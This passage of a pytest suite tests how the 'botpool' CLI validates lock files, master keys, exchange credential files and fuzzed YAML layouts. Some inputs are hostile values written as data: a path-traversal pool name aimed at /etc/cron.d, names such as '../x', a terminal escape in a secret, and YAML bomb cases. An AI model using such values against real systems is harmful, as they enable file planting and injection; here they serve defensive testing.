        "../../../../etc/cron.d/x-1: {user: alice,",
        "is not a pool name of user 'alice'",
    ),
    "pool of another user": ("user: alice,", "user: bob,", "is not a pool name of user 'bob'"),
    "negative port": ("first_port: 9000", "first_port: -5", "outside 1024-65535"),
    "port outside the range": (
        "first_port: 9000",
        "first_port: 20000",
        "outside the layout's base_port..max_port",
    ),
    "huge size": ("size: 10", "size: 1000000000", "size must be between 1 and 50"),
    "overlapping blocks": (
        "bots:",
        "  alice-pool-2: {user: alice, host: local, first_port: 9005, size: 10}\nbots:",
        "overlap those of alice-pool-1",
    ),
    "unknown version": ("version: 1", "version: 7", "unknown lock version 7"),
    "no version": ("version: 1\n", "", "version is missing"),
    "slot out of range": ("slot: 0", "slot: 10", "slot 10 is outside 0-9"),
    "slot taken twice": (
        "  alice/one: {pool: alice-pool-1, slot: 0}",
        "  alice/one: {pool: alice-pool-1, slot: 0}\n  alice/two: {pool: alice-pool-1, slot: 0}",
        "slot 0 of alice-pool-1 is also alice/one's",
    ),
    "bot not USER/BOT": ("alice/one:", "alice/../one:", "is not USER/BOT"),
    "unknown pool": ("pool: alice-pool-1, slot", "pool: alice-pool-9, slot", "no pool"),
    "unknown key": ("size: 10}", "size: 10, extra: 1}", "unknown key 'extra'"),
    "string port": ("first_port: 9000", "first_port: '9000'", "first_port must be int"),
    "boolean size": ("size: 10", "size: true", "size must be int"),
    "host with a newline": ("host: local", 'host: "local\\n"', "is not a host name"),
    "garbage": (LOCK, "[1, 2, 3]\n", "expected a mapping"),
    "empty": (LOCK, "", "the lock file is empty"),
    "comments only": (LOCK, "# nothing\n", "the lock file is empty"),
}


@pytest.mark.parametrize("case", LOCK_CASES, ids=list(LOCK_CASES))
def test_a_broken_lock_is_an_error_never_a_reshuffle(lay, case):
    old, new, expected = LOCK_CASES[case]
    lock = lay.with_suffix(".lock")
    lock.write_text(LOCK.replace(old, new, 1))
    refused_everywhere(lay, f"{lock}:", expected)


def test_a_lock_that_is_a_fifo_is_refused_at_once(lay):
    os.mkfifo(lay.with_suffix(".lock"))
    assert_refused(*run("plan", str(lay)), "cannot read the lock file: it is not a regular file")


def test_the_valid_lock_passes_and_plan_keeps_it(lay):
    lock = lay.with_suffix(".lock")
    lock.write_text(LOCK)
    assert run("plan", str(lay), "--check") == (0, "")


def test_a_layout_named_lock_is_never_overwritten(layout_dir, secrets):
    secrets.directory.mkdir(mode=0o700)
    path = layout_dir / "x.lock"
    path.write_text(BASE)
    assert_refused(*run("plan", str(path)), "must not be named *.lock")
    assert path.read_text() == BASE


def test_plan_never_replaces_a_file_that_is_not_a_lock(lay):
    # a user's own file where the lock would go: refused as a lock, never overwritten
    lock = lay.with_suffix(".lock")
    lock.write_text("version: 1\npools: {}\nbots: {}\n")  # valid, but not written by botpool
    code, stderr = run("plan", str(lay))
    assert_refused(code, stderr, "not a lock file written by botpool")
    assert lock.read_text() == "version: 1\npools: {}\nbots: {}\n"


def test_the_lock_is_written_atomically(lay, monkeypatch):
    """A write that fails half-way leaves the old lock whole, and no temporary file."""
    run("plan", str(lay))
    lock = lay.with_suffix(".lock")
    old = lock.read_text()
    edit(lay, "      - name: one", "      - name: one\n      - name: two")

    def crash(*args: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", crash)
    code, stderr = run("plan", str(lay))
    assert code == 1 and "No space left on device" in stderr
    assert lock.read_text() == old
    assert sorted(p.name for p in lay.parent.iterdir() if p.name.startswith(".")) == []


# --- secrets -------------------------------------------------------------------------------

WEAK_KEYS = {
    "empty": "",
    "one byte": "ab",
    "not hex": "z" * 64,
    "31 bytes": "ab" * 31,
    "not random": "00" * 32,
    "two lines": "ab" * 32 + "\n" + "cd" * 32,
}


@pytest.mark.parametrize("key", WEAK_KEYS.values(), ids=list(WEAK_KEYS))
def test_a_weak_master_key_is_refused_without_showing_it(lay, secrets, key):
    path = secrets.directory / "master.key"
    path.write_text(key + "\n")
    path.chmod(0o600)
    code, stderr = run("render", str(lay), "--out", str(lay.parent / "out"))
    assert_refused(code, stderr, f"{path}", "openssl rand -hex 32")
    assert not (lay.parent / "out").exists()
    if len(key) > 3:
        assert key not in stderr


def test_a_strong_master_key_in_the_documented_format_passes(lay, secrets):
    (secrets.directory / "master.key").write_text(os.urandom(32).hex() + "\n")
    (secrets.directory / "master.key").chmod(0o600)
    assert run("render", str(lay), "--out", str(lay.parent / "out"))[0] == 0


@pytest.mark.parametrize("mode", [0o755, 0o750, 0o707])
def test_a_secrets_folder_open_to_others_is_refused(lay, secrets, mode):
    secrets.directory.chmod(mode)
    assert_refused(
        *run("credentials", str(lay), "alice/one"), "is open to other users", "chmod 700"
    )


def test_a_master_key_readable_by_others_is_refused(lay, secrets):
    secrets.master_key()
    (secrets.directory / "master.key").chmod(0o644)
    assert_refused(*run("credentials", str(lay), "alice/one"), "is readable by others")


def test_the_master_key_is_created_0600_in_a_0700_folder(tmp_path):
    store = SecretStore(tmp_path / "new" / "secrets")
    store.master_key()
    assert (store.directory / "master.key").stat().st_mode & 0o777 == 0o600
    assert store.directory.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("name", ["../x", "a/b", "..", "x\n", ""])
def test_a_credentials_name_is_a_plain_name(secrets, name):
    secrets.directory.mkdir(mode=0o700)
    assert not secrets.credentials_exist(name)
    with pytest.raises(SecretsError, match="is not a credentials name"):
        secrets.exchange_credentials(name)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ('{"key": "k", "secret": "s", "headers": {"x": "y"}}', "unknown keys ['headers']"),
        ('{"key": "k"}', "at least key and secret"),
        ('{"key": "k", "secret": ["s"]}', "secret must be a string"),
        ('{"key": "k", "secret": "s\\u001b[2J"}', "secret must be a string without control"),
        ("not json", "is not valid JSON"),
    ],
)
def test_a_credentials_file_holds_only_what_ccxt_needs(secrets, content, expected):
    folder = secrets.directory / "credentials"
    folder.mkdir(parents=True, mode=0o700)
    secrets.directory.chmod(0o700)
    (folder / "bn.json").write_text(content)
    (folder / "bn.json").chmod(0o600)
    with pytest.raises(SecretsError, match=re.escape(expected)):
        secrets.exchange_credentials("bn")


def test_a_broken_rotations_file_is_an_error(lay, secrets):
    (secrets.directory / "rotations.json").write_text('{"alice/one": "x"}')
    (secrets.directory / "rotations.json").chmod(0o600)
    assert_refused(*run("rotate", str(lay), "alice/one"), "rotations.json must be a JSON object")


# --- the command line ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv", [[], ["plan"], ["plan", "x", "--bogus"], ["nope"], ["drift"]], ids=str
)
def test_usage_errors_exit_1_not_2(argv):
    """2 means "changes pending" in this CLI's contract, so argparse's 2 would lie."""
    assert run(*argv)[0] == 1


# --- the worst cases again, in a child process: bounded time and memory ----------------------


@pytest.mark.parametrize(
    "case", ["exponential aliases", "deep flow nesting", "thousands of digits"]
)
def test_the_worst_inputs_end_within_time_and_memory_bounds(lay, case):
    old, new, _ = YAML_CASES[case]
    edit(lay, old, new)
    limit = 512 << 20  # the child is a whole Python with the CLI imported

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    proc = subprocess.run(
        [sys.executable, "-m", "botpool.cli", "validate", str(lay)],
        capture_output=True,
        text=True,
        timeout=30,
        preexec_fn=bounded,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    assert_refused(proc.returncode, proc.stderr)


# --- a fuzzer over the example layouts and their lock files --------------------------------

EXAMPLES = ["layout", "loadtest", "production"]
text_values = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["alice\n", "../x", "/", "\x1b[2J", "2026-01-01", "~", "-", "sandbox"]),
)
leaf_values = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    text_values,
)
any_value = st.recursive(
    leaf_values,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(text_values, inner, max_size=4)
    ),
    max_leaves=8,
)


def _paths(data: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix]
    if isinstance(data, dict):
        for key, value in data.items():
            out += _paths(value, (*prefix, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            out += _paths(value, (*prefix, index))
    return out


@st.composite
def mutated(draw: st.DrawFn, data: Any) -> Any:
    """The data with a few random edits: a value replaced, a key deleted, a subtree copied."""
    for _ in range(draw(st.integers(1, 3))):
        paths = [p for p in _paths(data) if p]
        if not paths:
            return draw(any_value)
        path = draw(st.sampled_from(paths))
        parent = data
        for part in path[:-1]:
            parent = parent[part]
        how = draw(st.sampled_from(["replace", "delete", "duplicate"]))
        if how == "replace":
            parent[path[-1]] = draw(any_value)
        elif how == "delete":
            del parent[path[-1]]
        elif isinstance(parent, dict):
            parent[f"{path[-1]}-copy"] = parent[path[-1]]
        else:
            parent.append(parent[path[-1]])
    return data


def _fuzz_folder(tmp: Path, name: str) -> Path:
    folder = tmp / name
    if folder.exists():
        shutil.rmtree(folder)
    shutil.copytree(REPO / "inventory" / "strategies", folder / "strategies")
    return folder


def _check_outcome(folder: Path, layout: Path) -> None:
    before = files_under(folder)
    out = folder / "rendered"
    for argv in (("validate",), ("plan", "--check"), ("plan",)):
        code, stderr = run(argv[0], str(layout), *argv[1:])
        assert code in (0, 1, 2), stderr
        if code == 1:
            assert_refused(code, stderr)
            assert files_under(folder) == before
    code, stderr = run("render", str(layout), "--out", str(out))
    if code == 1:
        assert_refused(code, stderr)
        assert not out.exists()


@pytest.fixture(scope="module")
def fuzz_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("fuzz")
    secrets = root / "secrets"
    secrets.mkdir(mode=0o700)
    os.environ["BOTPOOL_SECRETS_DIR"] = str(secrets)
    yield root
    del os.environ["BOTPOOL_SECRETS_DIR"]


@settings(
    max_examples=120,
    deadline=5000,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.data())
def test_fuzzed_layouts_end_in_a_clear_answer(fuzz_root, data):
    name = data.draw(st.sampled_from(EXAMPLES))
    original = yaml.safe_load((REPO / "inventory" / f"{name}.yaml").read_text())
    original["defaults"]["root"] = "/opt/botpool-fuzz"
    original["defaults"].pop("image", None)  # the CA bundle is read from this machine
    folder = _fuzz_folder(fuzz_root, "layout")
    layout = folder / "fuzz.yaml"
    text = yaml.safe_dump(data.draw(mutated(original)), allow_unicode=True)
    layout.write_text(text)
    _check_outcome(folder, layout)


@settings(
    max_examples=80,
    deadline=5000,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.data())
def test_fuzzed_lock_files_end_in_a_clear_answer(fuzz_root, data):
    name = data.draw(st.sampled_from(EXAMPLES))
    folder = _fuzz_folder(fuzz_root, "lock")
    layout = folder / "fuzz.yaml"
    text = (REPO / "inventory" / f"{name}.yaml").read_text()
    text = text.replace("ca_bundle: /etc/ssl/certs/ca-certificates.crt", "")
    layout.write_text(text)
    lock = yaml.safe_load((REPO / "inventory" / f"{name}.lock").read_text())
    header = textwrap.dedent(LOCK).split("version")[0]
    layout.with_suffix(".lock").write_text(
        header + yaml.safe_dump(data.draw(mutated(lock)), allow_unicode=True)
    )
    _check_outcome(folder, layout)
